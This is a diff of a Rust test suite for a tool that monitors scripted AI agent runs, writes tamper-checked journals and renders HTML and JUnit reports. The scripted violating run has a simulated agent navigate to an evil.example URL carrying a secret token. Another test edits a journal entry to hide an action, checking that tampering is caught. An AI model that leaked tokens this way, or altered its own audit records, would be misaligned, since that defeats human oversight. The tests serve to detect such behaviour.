@@ -184,17 +184,12 @@ fn violating_script() -> String {
             serde_json::json!({"label": URL_LABEL}),
         ),
         claude_tool_ok("t5"),
-        claude_tool_use(
-            "t3",
-            "mcp__personastub__navigate",
-            serde_json::json!({"url": "https://evil.example/?token=secret"}),
-        ),
+        claude_navigate("t3", "https://evil.example/?token=secret"),
         claude_result("t3", denied, true),
         "@sleep 2500".into(),
-        claude_tool_use(
+        claude_navigate(
             "t4",
-            "mcp__personastub__navigate",
-            serde_json::json!({"url": "https://prod-dashboard.example.org/admin?token=secret"}),
+            "https://prod-dashboard.example.org/admin?token=secret",
         ),
         claude_tool_ok("t4"),
         "@sleep 60000".into(),
@@ -205,8 +200,7 @@ fn violating_script() -> String {
 
 #[test]
 fn a_violating_run_writes_a_report_chromium_renders_and_a_junit_failure() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script(&violating_script());
+    let sb = Sandbox::scripted(&violating_script());
     // A folder that does not exist yet, as a CI job names it.
     let junit = sb.root.join("out/reports/junit.xml");
     let junit_arg = junit.display().to_string();
@@ -300,14 +294,9 @@ fn a_violating_run_writes_a_report_chromium_renders_and_a_junit_failure() {
 
 #[test]
 fn a_clean_run_is_a_passing_junit_case_and_its_report_says_clean() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script(&format!(
+    let sb = Sandbox::scripted(&format!(
         "{}\n{}\n",
-        claude_tool_use(
-            "t1",
-            "mcp__personastub__navigate",
-            serde_json::json!({"url":"https://staging.example.com/welcome"}),
-        ),
+        claude_navigate("t1", "https://staging.example.com/welcome"),
         claude_tool_ok("t1")
     ));
     let junit = sb.root.join("junit.xml");
@@ -332,7 +321,7 @@ fn a_clean_run_is_a_passing_junit_case_and_its_report_says_clean() {
         "{xml}"
     );
     let html = std::fs::read_to_string(sb.run_dir().join("report.html")).unwrap();
-    assert!(html.contains("class=\"outcome clean\""), "{html}");
+    assert_has(&html, "class=\"outcome clean\"");
 }
 
 /// `persona report` checks the hash chains before it renders a run as clean: a real run's
@@ -356,17 +345,7 @@ fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
     assert_exit_code(&out, 0);
     let dir = sb.run_dir();
     let junit = sb.root.join("junit.xml");
-    let report = |dir: &Path| {
-        sb.leopold(&[
-            "persona",
-            "report",
-            &dir.display().to_string(),
-            "--junit",
-            &junit.display().to_string(),
-        ])
-        .output()
-        .unwrap()
-    };
+    let report = |dir: &Path| persona_report(&sb, dir, "--junit", &junit);
     let verdict = || {
         let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
         let doc = parse_xml(&std::fs::read_to_string(&junit).unwrap());
@@ -379,7 +358,7 @@ fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
     let o = report(&dir);
     assert_exit_code(&o, 0);
     let (html, failure) = verdict();
-    assert!(html.contains("class=\"outcome clean\""), "{html}");
+    assert_has(&html, "class=\"outcome clean\"");
     assert_eq!(failure, None);
 
     // One journal line edited (the first navigation's path), as someone hiding it would.
@@ -389,18 +368,11 @@ fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
     std::fs::write(&journal, original.replacen("\"/cart\"", "\"/home\"", 1)).unwrap();
     let o = report(&dir);
     assert_exit_code(&o, 1);
-    assert!(
-        stderr(&o).contains("leopold: tampered: journal.jsonl line 3"),
-        "{}",
-        stderr(&o)
-    );
+    assert_has(&stderr(&o), "leopold: tampered: journal.jsonl line 3");
     let (html, failure) = verdict();
     assert!(!html.contains("class=\"outcome clean\""), "{html}");
-    assert!(
-        html.contains("class=\"outcome violated\">tampered<"),
-        "{html}"
-    );
-    assert!(html.contains("journal.jsonl line 3"), "{html}");
+    assert_has(&html, "class=\"outcome violated\">tampered<");
+    assert_has(&html, "journal.jsonl line 3");
     let (kind, message) = failure.expect("a failing JUnit case");
     assert_eq!(kind, "tampered");
     assert!(message.starts_with("journal.jsonl line 3: "), "{message}");
@@ -417,10 +389,7 @@ fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
     let o = report(&dir);
     assert_exit_code(&o, 1);
     let (html, failure) = verdict();
-    assert!(
-        html.contains("class=\"outcome violated\">tampered<"),
-        "{html}"
-    );
+    assert_has(&html, "class=\"outcome violated\">tampered<");
     let (kind, message) = failure.expect("a failing JUnit case");
     assert_eq!(kind, "tampered");
     assert!(
@@ -432,6 +401,37 @@ fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
 // ---- persona report and persona runs, on run directories written by hand ----
 
 const RUN_JSON: &str = r#"{"version":1,"active":false,"run_id":"RUNID","flow":"checkout","flow_path":"FLOW","harness":"codex","supervisor_pid":1,"worker_pid":2,"started_at":"STARTED","wiring":[],"journal_hash":"sha256:0f1e2d","end":{"outcome":"OUTCOME","exit_code":CODE,"ended_at":"ENDED","counts":{"actions":2,"completed":1,"errored":0,"denied":1,"violations":0,"unreadable_lines":0},"worker_status":"exit 0"}}"#;
+
+/// `leopold persona report DIR FLAG FILE`.
+fn persona_report(sb: &Sandbox, dir: &Path, flag: &str, file: &Path) -> std::process::Output {
+    sb.leopold(&[
+        "persona",
+        "report",
+        &dir.display().to_string(),
+        flag,
+        &file.display().to_string(),
+    ])
+    .output()
+    .unwrap()
+}
+
+/// A run with no end time (`x`), whose run.json the test then takes away or spoils:
+/// [`write_run`].
+fn unended_run(project: &Path, id: &str, started: &str) -> PathBuf {
+    write_run(project, id, started, "x", "clean", 0)
+}
+
+/// A clean run, `20261130T100000Z-1`, started at 10:00 and ended at `ended`: [`write_run`].
+fn clean_run(project: &Path, ended: &str) -> PathBuf {
+    write_run(
+        project,
+        "20261130T100000Z-1",
+        "2026-11-30T10:00:00.000Z",
+        ended,
+        "clean",
+        0,
+    )
+}
 
 fn write_run(
     project: &Path,
@@ -482,27 +482,11 @@ fn listing(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
 #[test]
 fn persona_report_renders_from_the_run_directory_alone_and_out_leaves_it_untouched() {
     let sb = Sandbox::with_user_files();
-    let dir = write_run(
-        &sb.project,
-        "20261130T100000Z-1",
-        "2026-11-30T10:00:00.000Z",
-        "2026-11-30T10:01:05.000Z",
-        "clean",
-        0,
-    );
+    let dir = clean_run(&sb.project, "2026-11-30T10:01:05.000Z");
     let before = listing(&dir);
     let out_file = sb.root.join("elsewhere/r.html");
     std::fs::create_dir_all(out_file.parent().unwrap()).unwrap();
-    let o = sb
-        .leopold(&[
-            "persona",
-            "report",
-            &dir.display().to_string(),
-            "--out",
-            &out_file.display().to_string(),
-        ])
-        .output()
-        .unwrap();
+    let o = persona_report(&sb, &dir, "--out", &out_file);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     assert_eq!(stdout(&o).trim(), out_file.display().to_string());
     assert_eq!(
@@ -537,14 +521,7 @@ fn persona_report_renders_from_the_run_directory_alone_and_out_leaves_it_untouch
 #[test]
 fn persona_report_refuses_a_malformed_run_json_naming_it_and_leaves_it_as_is() {
     let sb = Sandbox::with_user_files();
-    let dir = write_run(
-        &sb.project,
-        "20261130T100000Z-1",
-        "2026-11-30T10:00:00.000Z",
-        "2026-11-30T10:01:00.000Z",
-        "clean",
-        0,
-    );
+    let dir = clean_run(&sb.project, "2026-11-30T10:01:00.000Z");
     std::fs::write(dir.join("run.json"), "{\"version\": 1,").unwrap();
     let before = listing(&dir);
     let o = sb
@@ -557,7 +534,7 @@ fn persona_report_refuses_a_malformed_run_json_naming_it_and_leaves_it_as_is() {
         err.contains(&dir.join("run.json").display().to_string()),
         "{err}"
     );
-    assert!(err.contains("left as it is"), "{err}");
+    assert_has(&err, "left as it is");
     assert_eq!(listing(&dir), before, "nothing written, nothing changed");
 
     // Not a run directory at all.
@@ -566,7 +543,7 @@ fn persona_report_refuses_a_malformed_run_json_naming_it_and_leaves_it_as_is() {
         .output()
         .unwrap();
     assert_eq!(o.status.code(), Some(2));
-    assert!(stderr(&o).contains("not a run directory"), "{}", stderr(&o));
+    assert_has(&stderr(&o), "not a run directory");
 }
 
 #[test]
@@ -590,24 +567,10 @@ fn persona_runs_lists_newest_first_with_unfinished_and_unreadable_runs() {
         1,
     );
     // Crashed: a journal, no run.json.
-    let crashed = write_run(
-        &p,
-        "20261130T100000Z-2",
-        "2026-11-30T10:00:00.000Z",
-        "x",
-        "clean",
-        0,
-    );
+    let crashed = unended_run(&p, "20261130T100000Z-2", "2026-11-30T10:00:00.000Z");
     std::fs::remove_file(crashed.join("run.json")).unwrap();
     // Active: ACTIVE.json names it (its run.json is written only when it ends).
-    let live = write_run(
-        &p,
-        "20261130T120000Z-4",
-        "2026-11-30T12:00:00.000Z",
-        "x",
-        "clean",
-        0,
-    );
+    let live = unended_run(&p, "20261130T120000Z-4", "2026-11-30T12:00:00.000Z");
     let mut active: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(live.join("run.json")).unwrap()).unwrap();
     active["active"] = true.into();
@@ -616,14 +579,7 @@ fn persona_runs_lists_newest_first_with_unfinished_and_unreadable_runs() {
     std::fs::write(p.join(".leopold/persona/ACTIVE.json"), active.to_string()).unwrap();
     std::fs::remove_file(live.join("run.json")).unwrap();
     // Unreadable run.json.
-    let bad = write_run(
-        &p,
-        "20261130T080000Z-0",
-        "2026-11-30T08:00:00.000Z",
-        "x",
-        "clean",
-        0,
-    );
+    let bad = unended_run(&p, "20261130T080000Z-0", "2026-11-30T08:00:00.000Z");
     std::fs::write(bad.join("run.json"), "[]").unwrap();
 
     let project = p.display().to_string();
@@ -716,14 +672,7 @@ fn a_report_makes_no_request_whatever_its_text_asks_for() {
     let Some(chromium) = chromium() else { return };
     let (port, hits) = witness();
     let sb = Sandbox::with_user_files();
-    let dir = write_run(
-        &sb.project,
-        "20261130T100000Z-1",
-        "2026-11-30T10:00:00.000Z",
-        "2026-11-30T10:01:00.000Z",
-        "clean",
-        0,
-    );
+    let dir = clean_run(&sb.project, "2026-11-30T10:01:00.000Z");
     // `http:\\host` is `http://host` to a browser, and holds no `://` for the URL stripping to
     // catch: only escaping (and the page's Content-Security-Policy behind it) stands between
     // this text and a request.
